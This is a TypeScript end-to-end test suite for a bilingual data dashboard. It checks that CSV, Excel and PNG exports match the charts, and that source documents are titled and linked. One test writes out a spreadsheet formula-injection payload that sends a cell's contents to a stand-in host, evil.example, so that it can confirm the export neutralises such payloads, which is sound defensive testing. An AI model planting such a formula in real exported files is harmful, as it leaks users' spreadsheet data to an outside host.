// Downloads are what the chart shows, end to end in Chromium on the real export: CSV and Excel carry the
// chart's labels (（省级）, shares in %, names not codes, one header per column) in the UI's language; Excel adds an
// "about" sheet (title, filters, SQL, sources, time); the PNG is framed with title, filters and source line;
// the SQL dialog is named after the chart; no download button is off while its chart shows data. And
// provenance: every document by its title (composed when the notice states none), linked to its address where
// recorded, from the case page and the Data view; the Overview's document count honours the filters.
import { spawnSync } from 'node:child_process';
import { copyFileSync, mkdtempSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import Papa from 'papaparse';
import type { Page } from 'playwright-core';
import { describe, expect, it } from 'vitest';
import { queryParquet } from '../helpers/data-db.ts';
import { RAW_DIR, ROOT } from '../helpers/paths.ts';
import { readXlsx } from '../helpers/xlsx.ts';
import { useApp, chartOption, downloadCsv, startApp, waitForCharts, downloadedBytes } from './harness.ts';
import { show } from './in-page.ts';
import { literal } from '../../src/sql/quote.ts';

const { app, db } = useApp({ db: true });

const HAN = /\p{Script=Han}/u;

function parseCsv(bytes: Buffer): { header: string[]; rows: string[][] } {
  const [header, ...rows] = Papa.parse<string[]>(bytes.toString('utf8').slice(1).trim(), { skipEmptyLines: true }).data;
  return { header, rows };
}

/** Click one of a card's download buttons (csv, xlsx, png) and return the file. */
async function download(page: Page, scope: string, kind: 'csv' | 'xlsx' | 'png'): Promise<{ bytes: Buffer; filename: string }> {
  const [file] = await Promise.all([page.waitForEvent('download', { timeout: 120_000 }), page.locator(`${scope} [data-download="${kind}"]`).first().click()]);
  return { bytes: await downloadedBytes(file), filename: file.suggestedFilename() };
}

const card = (id: string) => `[data-query-id="${id}"]`;

describe('CSV and Excel hold what the chart shows', () => {
  it('by-city: a case of no city reads （省级） as on the chart; in English provinces and cities are romanised', async () => {
    const [provincial] = await db.all('SELECT count(*) AS n FROM cases WHERE duplicate_of IS NULL AND city IS NULL');
    expect(Number(provincial.n)).toBeGreaterThan(0);
    const { page } = await app.newPage('?view=overview');
    await waitForCharts(page, 120_000);
    const labels = ((await chartOption(page, 'overview.byCity')).yAxis as { data: string[] }[])[0].data;
    expect(labels).toContain('（省级）');
    const { header, rows } = parseCsv((await downloadCsv(page, 'overview.byCity')).bytes);
    expect(header).toEqual(['省份', '城市', '案例数']);
    expect(rows.every((r) => r[1] !== '')).toBe(true);
    expect(rows.some((r) => r[1] === '（省级）')).toBe(true);

    const en = await app.newPage('?view=overview&lang=en');
    await waitForCharts(en.page, 120_000);
    // Place names need pinyin-pro, loaded once the page is in English: wait for the chart to show them. The chart
    // is below the first screen, and a far chart takes a new option only once it comes near (EChart whenNear): when
    // pinyin-pro arrives after its first drawing (a loaded machine), the reader sees the names once scrolled to it.
    await en.page.locator(card('overview.byCity')).scrollIntoViewIfNeeded();
    await expect.poll(async () => ((await chartOption(en.page, 'overview.byCity')).yAxis as { data: string[] }[])[0].data.some((l) => HAN.test(l)), { timeout: 60_000 }).toBe(false);
    const english = parseCsv((await downloadCsv(en.page, 'overview.byCity')).bytes);
    expect(english.header).toEqual(['Province', 'City', 'Cases']);
    for (const r of english.rows) {
      expect(r[0], r.join()).not.toMatch(HAN);
      expect(r[1], r.join()).not.toMatch(HAN);
    }
    expect(english.rows.some((r) => r[1] === '(province level)')).toBe(true);
    expect(english.rows.map((r) => r[0])).toContain('Fujian');
  }, 300_000);

  it('the share heatmap downloads the percentages it draws (1.2, not 0.012), in CSV and Excel alike', async () => {
    const { page } = await app.newPage('?view=overview&share=1');
    await waitForCharts(page, 120_000);
    const option = await chartOption(page, 'overview.heatmap');
    const provinces = (option.xAxis as { data: string[] }[])[0].data;
    const indicators = (option.yAxis as { data: string[] }[])[0].data;
    const drawn = new Map<string, number>();
    for (const s of option.series as { data: number[][] }[]) for (const [x, y, v] of s.data) drawn.set(`${provinces[x]}|${indicators[y]}`, v);
    const { header, rows } = parseCsv((await downloadCsv(page, 'overview.heatmap')).bytes);
    expect(header).toEqual(['省份', '指标', '占本省比例（%）', '案例数', '本省案例总数']);
    expect(rows.length).toBeGreaterThan(0);
    for (const r of rows) expect(Number(r[2]), r.join()).toBe(drawn.get(`${r[0]}|${r[1]}`));
    // At least one share is a percentage above 1 (a fraction would never be).
    expect(rows.some((r) => Number(r[2]) > 1)).toBe(true);

    const sheets = readXlsx((await download(page, card('overview.heatmap'), 'xlsx')).bytes);
    expect(sheets.map((s) => s.name)).toEqual(['数据', '说明']);
    const [data] = sheets;
    expect(data.rows[0]).toEqual(header);
    expect(data.rows.slice(1).map((r) => r.map(String))).toEqual(rows.map((r) => r.map((v) => (v === '' ? 'null' : v))));
  }, 300_000);

  it('Compare: one header per column, indicator names in the UI language', async () => {
    for (const lang of ['zh', 'en'] as const) {
      const { page } = await app.newPage(`?view=compare&lang=${lang}`);
      await waitForCharts(page, 120_000);
      const { header, rows } = parseCsv((await downloadCsv(page, 'compare.shares')).bytes);
      expect(new Set(header).size, header.join()).toBe(header.length);
      const names = rows.map((r) => r[1]);
      if (lang === 'en') for (const n of names) expect(n).not.toMatch(HAN);
      else expect(names.every((n) => HAN.test(n))).toBe(true);
    }
  }, 300_000);

  it('the Excel file has an about sheet: title, filters, SQL, every source document, download time', async () => {
    const [city] = await db.all("SELECT city FROM cases WHERE duplicate_of IS NULL AND city IS NOT NULL GROUP BY city ORDER BY count(*) DESC, city LIMIT 1");
    const { page } = await app.newPage(`?view=overview&city=${encodeURIComponent(String(city.city))}`);
    await waitForCharts(page, 120_000);
    const title = await page.locator(`${card('overview.byLevel')} h3`).textContent();
    const { bytes, filename } = await download(page, card('overview.byLevel'), 'xlsx');
    expect(filename).toMatch(/^overview\.byLevel_\d{4}-\d\d-\d\d_\d{4}\.xlsx$/);
    const [data, about] = readXlsx(bytes);
    const csv = parseCsv((await downloadCsv(page, 'overview.byLevel')).bytes);
    expect(data.rows.map((r) => r.map(String))).toEqual([csv.header, ...csv.rows]);
    const field = (label: string) => about.rows.find((r) => r[0] === label)?.[1];
    expect(field('标题')).toBe(title);
    expect(field('筛选条件')).toBe(`城市：${city.city}`);
    expect(String(field('SQL'))).toMatch(/SELECT[\s\S]*FROM/);
    expect(String(field('下载时间'))).toMatch(/^\d{4}-\d\d-\d\d \d\d:\d\d:\d\d$/);
    // One line per source document, each by its title (never a bare id), from where the sources start.
    const docs = await db.all('SELECT doc_id FROM documents');
    const start = about.rows.findIndex((r) => r[0] === '来源文件');
    const lines = about.rows.slice(start).map((r) => String(r[1]));
    expect(lines).toHaveLength(docs.length);
    for (const line of lines) expect(line).not.toMatch(/（无标题）/);
  }, 300_000);

  it('a formula-leading cell of a table is neutralised in the Excel file too; numbers stay numbers', async () => {
    const { page } = await app.newPage('?view=sql');
    const formula = '=HYPERLINK("http://evil.example/?d="&A1,"click")';
    await page.locator('[data-testid="sql-editor"]').fill(`SELECT ${literal(formula)} AS title, -3.5 AS delta`);
    await page.locator('[data-testid="sql-run"]').click();
    await page.locator('[data-testid="sql-result"]').waitFor({ timeout: 120_000 });
    const [data] = readXlsx((await download(page, '[data-table-id="sql-result"]', 'xlsx')).bytes);
    expect(data.rows).toEqual([['title', 'delta'], [`'${formula}`, -3.5]]);
  }, 300_000);
});

describe('PNG, SQL dialog and buttons', () => {
  it('the PNG frames the chart with its title, filters and source line', async () => {
    const { page } = await app.newPage('?view=overview');
    await waitForCharts(page, 120_000);
    const canvas = await page.locator(`${card('overview.byLevel')} canvas`).first().boundingBox();
    const { bytes } = await download(page, card('overview.byLevel'), 'png');
    expect(bytes.subarray(1, 4).toString('latin1')).toBe('PNG');
    if (process.env.SHOTS_DIR) writeFileSync(path.join(process.env.SHOTS_DIR, 'png-download-byLevel.png'), bytes);
    // IHDR: width and height of the image (pixel ratio 2): the chart plus a frame above and below it.
    const width = bytes.readUInt32BE(16);
    const height = bytes.readUInt32BE(20);
    expect(width).toBeGreaterThan(canvas!.width * 2);
    expect(height).toBeGreaterThan(canvas!.height * 2 + 80);
    // The band above the chart holds the title: dark pixels there, and in the band under it (the source line).
    const ink = await page.evaluate(async (b64) => {
      const image = new Image();
      image.src = `data:image/png;base64,${b64}`;
      await image.decode();
      const c = document.createElement('canvas');
      c.width = image.width;
      c.height = image.height;
      const ctx = c.getContext('2d')!;
      ctx.drawImage(image, 0, 0);
      const dark = (y0: number, y1: number) => {
        const { data } = ctx.getImageData(0, y0, c.width, y1 - y0);
        let n = 0;
        for (let i = 0; i < data.length; i += 4) if (data[i] < 100 && data[i + 1] < 100 && data[i + 2] < 100) n++;
        return n;
      };
      // Top: the title and filters lines; bottom: the source line above the lower margin.
      return { top: dark(0, 60), bottom: dark(c.height - 90, c.height) };
    }, bytes.toString('base64'));
    expect(ink.top).toBeGreaterThan(50);
    expect(ink.bottom).toBeGreaterThan(20);
  }, 300_000);

  it('the SQL dialog is titled with the chart’s title, not its query id', async () => {
    const { page } = await app.newPage('?view=overview');
    await waitForCharts(page, 120_000);
    const title = (await page.locator(`${card('overview.byCity')} h3`).textContent())!;
    await page.locator(`${card('overview.byCity')} .card-actions button`, { hasText: 'SQL' }).click();
    const heading = page.locator('dialog.sql-dialog [data-testid="sql-dialog-title"]');
    await expect.poll(() => heading.textContent()).toContain(title);
    expect(await heading.textContent()).not.toContain('overview.byCity');
  }, 300_000);

  it('no download button is off while its chart shows data, on every charted view', async () => {
    const { page } = await app.newPage('?view=overview');
    for (const view of ['overview', 'compare', 'indicator']) {
      // Each view mounted afresh in the one page, as its tab opens it.
      await show(page, `?view=${view}`);
      await waitForCharts(page, 120_000);
      const states = await page.locator('.chart-card').evaluateAll((cards) =>
        cards
          .filter((c) => c.querySelector('canvas'))
          .map((c) => ({
            id: c.getAttribute('data-query-id'),
            off: [...c.querySelectorAll('[data-download]')].filter((b) => (b as HTMLButtonElement).disabled).map((b) => b.getAttribute('data-download')),
            kinds: [...c.querySelectorAll('[data-download]')].map((b) => b.getAttribute('data-download')),
          })),
      );
      expect(states.length, view).toBeGreaterThan(0);
      for (const s of states) {
        expect(s.off, `${view} ${s.id}`).toEqual([]);
        expect(s.kinds, `${view} ${s.id}`).toEqual(['csv', 'xlsx', 'png']);
      }
    }
  }, 300_000);
});

describe('provenance', () => {
  it('the Overview’s document count honours a city filter', async () => {
    const [city] = await db.all(
      'SELECT city, count(DISTINCT doc_id) AS docs FROM cases WHERE duplicate_of IS NULL AND city IS NOT NULL GROUP BY city ORDER BY docs, city LIMIT 1',
    );
    const [all] = await db.all('SELECT count(*) AS n FROM documents');
    expect(Number(city.docs)).toBeLessThan(Number(all.n));
    const { page } = await app.newPage(`?view=overview&city=${encodeURIComponent(String(city.city))}`);
    await expect.poll(() => page.locator('[data-stat="documents"] dd').textContent(), { timeout: 120_000 }).toBe(String(city.docs));
  }, 300_000);

  it('a notice without a stated title is named by issuer, year and batch, never "（无标题）"; the case page names its document by title', async () => {
    const untitled = await db.all("SELECT doc_id FROM documents WHERE title IS NULL OR trim(title) = ''");
    expect(untitled.length).toBeGreaterThan(0);
    const { page } = await app.newPage('?view=data');
    const table = page.locator('[data-table-id="data.documents"]');
    await table.waitFor({ timeout: 120_000 });
    expect(await table.textContent()).not.toContain('无标题');
    expect(await table.locator('[data-composed-title]').count()).toBe(untitled.length);
    const [c] = await db.all(`SELECT case_id, doc_id FROM cases WHERE doc_id = '${String(untitled[0].doc_id)}' LIMIT 1`);
    const casePage = await app.newPage(`?view=case&case=${String(c.case_id)}`);
    const documentCell = casePage.page.locator('[data-testid="case-document"]');
    await documentCell.waitFor({ timeout: 120_000 });
    expect(await documentCell.textContent()).not.toContain(String(c.doc_id));
    expect(await documentCell.locator('[data-composed-title]').count()).toBe(1);
    expect(await casePage.page.locator('[data-testid="case-source-url"]').textContent()).toContain('未记录');
  }, 300_000);

  it('a source address from the manifest is the document’s link on the case page and in the Data view', async () => {
    // The corpus with an address recorded for one notice (its manifest plus source_url), exported and served.
    const rawDir = mkdtempSync(path.join(tmpdir(), 'e2e-raw-'));
    const outDir = mkdtempSync(path.join(tmpdir(), 'e2e-data-'));
    const files = readdirSync(RAW_DIR).filter((f) => f.endsWith('.txt'));
    for (const f of files) copyFileSync(path.join(RAW_DIR, f), path.join(rawDir, f));
    const manifest = JSON.parse(readFileSync(path.join(RAW_DIR, 'sources.json'), 'utf8')) as Record<string, Record<string, unknown>>;
    const url = 'https://fgw.fujian.gov.cn/zwgk/notice-example.htm';
    manifest[files[0]] = { ...(manifest[files[0]] ?? {}), source_url: url };
    writeFileSync(path.join(rawDir, 'sources.json'), JSON.stringify(manifest));
    const etl = spawnSync('npx', ['tsx', 'scripts/etl.ts', '--in', rawDir, '--out', outDir], { cwd: ROOT, encoding: 'utf8' });
    expect(etl.status, etl.stderr).toBe(0);
    const other = await startApp({ dataDir: outDir });
    try {
      const { page } = await other.newPage('?view=data');
      const link = page.locator('[data-table-id="data.documents"] a[data-source-url]');
      await link.first().waitFor({ timeout: 120_000 });
      expect(await link.count()).toBe(1);
      expect(await link.getAttribute('href')).toBe(url);
      expect(await page.locator('[data-table-id="data.documents"]').textContent()).toContain(url);
      // A case of that notice: its document is the link.
      const [c] = await queryParquet(
        outDir,
        `SELECT c.case_id FROM cases c JOIN documents d USING (doc_id) WHERE d.source_file = '${files[0]}' AND c.duplicate_of IS NULL ORDER BY c.case_id LIMIT 1`,
      );
      const caseId = String(c.case_id);
      const one = await other.newPage(`?view=case&case=${caseId}`);
      const docLink = one.page.locator('[data-testid="case-document"] a[data-source-url]');
      await docLink.waitFor({ timeout: 120_000 });
      expect(await docLink.getAttribute('href')).toBe(url);
      expect((await docLink.textContent())!.length).toBeGreaterThan(4);
      expect(await one.page.locator('[data-testid="case-source-url"] a').getAttribute('href')).toBe(url);
    } finally {
      await other.close();
    }
  }, 600_000);
});
